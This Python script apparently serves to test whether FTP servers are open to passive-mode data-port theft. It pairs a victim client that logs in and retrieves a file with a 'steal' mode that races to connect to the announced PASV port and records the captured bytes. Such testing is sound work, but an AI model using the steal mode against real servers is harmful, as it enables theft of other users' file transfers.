#!/usr/bin/env python3
"""PASV-theft race helpers.

Victim (legitimate client):
  race.py pasv HOST SIGNAL_FILE [--port 21] [--file data.bin] [--wait 30]
              [--user ftptest] [--password ftptest] [--connect-to HOST]
    logs in, sends TYPE I and PASV, prints one line
        PASV h.h.h.h PORT
    (flushed) and waits until SIGNAL_FILE exists (at most --wait seconds).
    Then it opens the data connection to the 227 address (or to --connect-to
    on the 227 port, e.g. the control address as curl does), sends
    RETR FILE, reads the data, waits for the final reply and prints
        DATA connect ok|error <reason>
        RETR <reply>
        DONE <reply>
        SHA256 <hex> BYTES <n>
    Exit 0 when the transfer completed with 226, 1 otherwise.

Attacker (another host):
  race.py steal HOST PORT OUTFILE [--timeout 3] [--read 5]
    connects to HOST:PORT (connect timeout --timeout), reads until EOF or
    --read seconds of silence, and writes what it received into OUTFILE
    (raw bytes). If the connection fails, OUTFILE gets one text line
    "ERROR <kind> <message>" instead. Either way OUTFILE.status gets one line,
    also printed on stdout:
        STEAL connected bytes=<n> sha256=<hex>
        STEAL error <kind> <message>
    Exit 0 when it connected, 1 when it did not.
"""
import argparse
import ftplib
import hashlib
import os
import signal
import socket
import sys
import time


def out(line):
    print(line, flush=True)


def on_alarm(signum, frame):
    raise TimeoutError("overall deadline reached")


def cmd_pasv(args):
    # the wait for the signal file is bounded separately; the rest must fit
    # in --deadline seconds after the signal
    ftp = ftplib.FTP(timeout=args.timeout)
    try:
        ftp.connect(args.host, args.port)
        ftp.login(args.user, args.password)
        ftp.voidcmd("TYPE I")
        resp = ftp.sendcmd("PASV")
        host, port = ftplib.parse227(resp)
    except (ftplib.Error, OSError, EOFError) as e:
        out(f"ERROR setup {type(e).__name__}: {str(e).strip()}")
        return 1
    out(f"PASV {host} {port}")

    deadline = time.monotonic() + args.wait
    while not os.path.exists(args.signal_file):
        if time.monotonic() > deadline:
            out(f"ERROR signal file {args.signal_file} did not appear within {args.wait}s")
            ftp.close()
            return 1
        time.sleep(0.05)

    signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, args.deadline)
    target = args.connect_to or host
    digest = hashlib.sha256()
    total = 0
    ok = False
    data = None
    try:
        try:
            data = socket.create_connection((target, port), timeout=args.timeout)
            out(f"DATA connect ok {target} {port}")
        except OSError as e:
            out(f"DATA connect error {type(e).__name__}: {e}")
        try:
            resp = ftp.sendcmd(f"RETR {args.file}")
            out(f"RETR {resp.strip()}")
            if data is not None and resp.startswith("1"):
                data.settimeout(args.timeout)
                while True:
                    chunk = data.recv(65536)
                    if not chunk:
                        break
                    digest.update(chunk)
                    total += len(chunk)
            if data is not None:
                data.close()
                data = None
            if resp.startswith("1"):
                resp = ftp.getresp()
                out(f"DONE {resp.strip()}")
                ok = resp.startswith("226")
        except (ftplib.Error, OSError, EOFError) as e:
            out(f"RETR error {type(e).__name__}: {str(e).strip()}")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        if data is not None:
            data.close()
        try:
            ftp.sock.settimeout(1)
            ftp.quit()
        except Exception:
            ftp.close()
    out(f"SHA256 {digest.hexdigest()} BYTES {total}")
    return 0 if ok else 1


def cmd_steal(args):
    status_path = args.outfile + ".status"
    try:
        s = socket.create_connection((args.host, args.port), timeout=args.timeout)
    except OSError as e:
        kind = type(e).__name__
        line = f"STEAL error {kind} {e}"
        with open(args.outfile, "w") as f:
            f.write(f"ERROR {kind} {e}\n")
        with open(status_path, "w") as f:
            f.write(line + "\n")
        out(line)
        return 1
    got = bytearray()
    note = ""
    s.settimeout(args.read)
    hard = time.monotonic() + max(args.read * 4, 20)
    try:
        while time.monotonic() < hard:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        note = " (read timeout)"
    except OSError as e:
        note = f" (read error {type(e).__name__}: {e})"
    finally:
        s.close()
    with open(args.outfile, "wb") as f:
        f.write(got)
    line = f"STEAL connected bytes={len(got)} sha256={hashlib.sha256(got).hexdigest()}{note}"
    with open(status_path, "w") as f:
        f.write(line + "\n")
    out(line)
    return 0


def main():
    ap = argparse.ArgumentParser(description="PASV-theft race helpers")
    sub = ap.add_subparsers(dest="mode", required=True)

    p = sub.add_parser("pasv", help="victim: PASV, wait for a signal file, then RETR")
    p.add_argument("host")
    p.add_argument("signal_file")
    p.add_argument("--port", type=int, default=21)
    p.add_argument("--file", default="data.bin")
    p.add_argument("--user", default="ftptest")
    p.add_argument("--password", default="ftptest")
    p.add_argument("--wait", type=float, default=30.0, help="max seconds to wait for the signal file")
    p.add_argument("--timeout", type=float, default=5.0, help="socket timeout")
    p.add_argument("--deadline", type=float, default=20.0, help="max seconds after the signal")
    p.add_argument("--connect-to", help="data connection target instead of the 227 address")

    s = sub.add_parser("steal", help="attacker: connect to HOST:PORT and record what arrives")
    s.add_argument("host")
    s.add_argument("port", type=int)
    s.add_argument("outfile")
    s.add_argument("--timeout", type=float, default=3.0, help="connect timeout")
    s.add_argument("--read", type=float, default=5.0, help="seconds of silence before giving up")

    # Compatibility: "race.py HOST SIGNAL_FILE" means "race.py pasv HOST SIGNAL_FILE".
    argv = sys.argv[1:]
    if argv and argv[0] not in ("pasv", "steal", "-h", "--help"):
        argv = ["pasv"] + argv
    args = ap.parse_args(argv)
    return cmd_pasv(args) if args.mode == "pasv" else cmd_steal(args)


if __name__ == "__main__":
    sys.exit(main())
